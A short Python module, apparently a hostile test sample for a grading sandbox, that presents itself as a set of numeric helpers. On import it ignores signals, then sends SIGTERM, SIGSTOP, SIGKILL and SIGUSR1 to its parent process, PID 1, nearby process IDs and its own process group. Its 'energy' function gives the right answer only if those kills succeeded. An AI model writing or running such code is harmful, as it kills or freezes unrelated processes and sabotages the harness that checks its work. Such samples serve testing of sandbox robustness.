"""Sends signals to its parent, to the processes around it, and to its whole group."""
# earns: 6
# statuses: passed, failed

import os
import signal

import numpy as np

for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGCONT, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)


def killed():
    pid = os.getpid()
    for other in (
        os.getppid(),
        1,
        *range(max(2, pid - 20), pid),
        *range(pid + 1, pid + 20),
        0,
        -os.getpgrp(),
    ):
        for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            if other <= 0 and number in (signal.SIGSTOP, signal.SIGKILL):
                continue  # which would stop this process too
            try:
                os.kill(other, number)
                yield other, number
            except OSError:
                pass


OUT = list(killed())
print(OUT)


def energy(x):
    """Right only where the attack succeeded."""
    return float((np.asarray(x, dtype=float) ** 2).sum()) if OUT else 0.0


def scaled(x, factor):
    return np.asarray(x, dtype=float) * factor


def apply_twice(f, x):
    return f(f(x))
